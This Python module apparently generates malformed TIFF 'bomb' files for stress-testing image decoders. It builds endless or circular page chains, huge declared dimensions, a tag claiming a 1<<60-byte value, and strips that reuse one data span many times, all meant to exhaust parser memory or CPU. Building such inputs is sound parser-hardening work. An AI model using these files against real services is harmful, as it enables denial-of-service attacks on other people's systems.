"""TIFF files of one idea each, of which tiff.py makes bombs."""

import struct

from bombs.jpeg import baseline, jpeg_progressive
from tiffs import (At, BITS, COMPRESSION, COUNTS, DESCRIPTION, HEIGHT, OFFSETS, PHOTOMETRIC, PLANAR, ROWS, SAMPLES,
                   TILE_COUNTS, TILE_OFFSETS, Tiff, WIDTH, deflate_zeros, picture, tiles)


def one_strip(compression, data, width, height, bits=8, more=(), photometric=1):
    tiff = Tiff()
    at = tiff.add(data)
    tiff.directory(picture(width, height, bits, compression, photometric=photometric) +
                    [(OFFSETS, 4, at), (COUNTS, 4, len(data)), *more])
    return tiff.bytes()


def one_tile(compression, data, width, height, tile_width, tile_height, bits=8, count=1):
    tiff = Tiff()
    at = tiff.add(data)
    tiff.directory(tiles(width, height, tile_width, tile_height, bits, compression) +
                    [(TILE_OFFSETS, 4, [at] * count), (TILE_COUNTS, 4, [len(data)] * count)])
    return tiff.bytes()


def many_pages(count, big=False, entries=(), circle=None, kind=0):
    """Pages of a pixel."""
    tiff = Tiff(big)
    at = tiff.add(b"\7" * 16)
    for _ in range(count):
        tiff.directory([(254, 4, kind), (WIDTH, 3, 1), (HEIGHT, 3, 1), (BITS, 3, 8),
                        (PHOTOMETRIC, 3, 1), (OFFSETS, 4, at), (COUNTS, 4, 1), *entries])
    if circle is not None:
        tiff.lead_to(circle)
    return tiff.bytes()


def shared_tags(pages, tags, length, kind=2, big=False):
    """Tags of nobody's whose values are one piece of the file, over and over."""
    tiff = Tiff(big)
    at = tiff.add(b"\7" * length)
    for page in range(pages):
        values = [(40000 + tag, kind, At(at, length)) for tag in range(tags)]
        tiff.directory([(WIDTH, 3, 1), (HEIGHT, 3, 1), (BITS, 3, 8), (PHOTOMETRIC, 3, 1), (OFFSETS, 4, at), (COUNTS, 4, 1)] + values)
    return tiff.bytes()


def strips(count, compression, data, rows_of, shared_count=None, width=1):
    """A strip a row, all of them the same piece of the file."""
    tiff = Tiff()
    at = tiff.add(data)
    tiff.directory(picture(width, count, 8, compression, rows_of) +
                    [(OFFSETS, 4, [at] * count), (COUNTS, 4, [shared_count or len(data)] * count)])
    return tiff.bytes()


def described(text, width=1, height=1):
    return one_strip(1, b"\7" * (width * height), width, height, more=[(DESCRIPTION, 2, text + b"\0")])


def new_tags(pages, each):
    tiff = Tiff()
    at = tiff.add(b"\7" * 16)
    for page in range(pages):
        tiff.directory([(WIDTH, 3, 1), (HEIGHT, 3, 1), (BITS, 3, 8), (PHOTOMETRIC, 3, 1), (OFFSETS, 4, at), (COUNTS, 4, 1)] +
                       [(1000 + page * each + i, 1, 7) for i in range(each)])
    return tiff.bytes()


def same_tags(pages, each):
    tiff = Tiff()
    at = tiff.add(b"\7" * 16)
    for page in range(pages):
        tiff.directory([(WIDTH, 3, 1), (HEIGHT, 3, 1), (BITS, 3, 8), (PHOTOMETRIC, 3, 1), (OFFSETS, 4, at), (COUNTS, 4, 1)] +
                        [(50000, 1, 7)] * each)
    return tiff.bytes()


def padded_stack(pages, size):
    """Pages of a pixel in a tile of many."""
    data = deflate_zeros(size * size)
    tiff = Tiff()
    at = tiff.add(data)
    for _ in range(pages):
        tiff.directory(tiles(1, 1, size, size, 8, 8) + [(TILE_OFFSETS, 4, at), (TILE_COUNTS, 4, len(data))])
    return tiff.bytes()


def jpeg_in_tiff(width, height, scans):
    return one_strip(7, jpeg_progressive(width, height, 1, scans), width, height)


def jbig(width, height):
    head = struct.pack(">BBBBIIIBBBB", 0, 0, 1, 0, width, height, height, 0, 0, 0, 0)
    return head + b"\0" * 200 + b"\xff\x02"


def jbig_tiff(width, height, real):
    return one_strip(34661, jbig(width, height), real, real, 1)


def small_pages(count):
    """The least that is a directory."""
    step = 2 + 3 * 12 + 4
    one = [struct.pack("<H", 3) + struct.pack("<HHII", 254, 4, 1, 1) + struct.pack("<HHII", WIDTH, 4, 1, 1) +
           struct.pack("<HHII", HEIGHT, 4, 1, 1) +
           struct.pack("<I", 8 + (i + 1) * step if i + 1 < count else 0) for i in range(count)]
    return b"II" + struct.pack("<HI", 42, 8) + b"".join(one)


def strips_missing(rows):
    tiff = Tiff()
    data = deflate_zeros(1)
    at = tiff.add(bytes(200000))
    tiff.directory(picture(1, rows, 8, 8, 1) + [(OFFSETS, 4, at), (COUNTS, 4, len(data))])
    return tiff.bytes()


def huge_tag():
    tiff = Tiff(True)
    at = tiff.add(b"0" * 16)
    tiff.directory(picture(1, 1) + [(OFFSETS, 4, at), (COUNTS, 4, 1), (50000, 16, At(16, 1 << 60))])
    return tiff.bytes()


def jpeg_strips(count):
    data = baseline(8, 8, 1, b"\0")
    tiff = Tiff()
    at = tiff.add(data)
    tiff.directory(picture(8, 8 * count, 8, 7, 8) + [(OFFSETS, 4, [at] * count), (COUNTS, 4, [len(data)] * count)])
    return tiff.bytes()


def planes(samples):
    data = deflate_zeros(64)
    tiff = Tiff()
    at = tiff.add(data)
    tiff.directory([(WIDTH, 4, 8), (HEIGHT, 4, 8), (BITS, 3, [8] * samples), (COMPRESSION, 3, 8), (PHOTOMETRIC, 3, 1),
                    (SAMPLES, 3, samples),
                    (ROWS, 4, 8), (PLANAR, 3, 2), (OFFSETS, 4, [at] * samples), (COUNTS, 4, [len(data)] * samples)])
    return tiff.bytes()
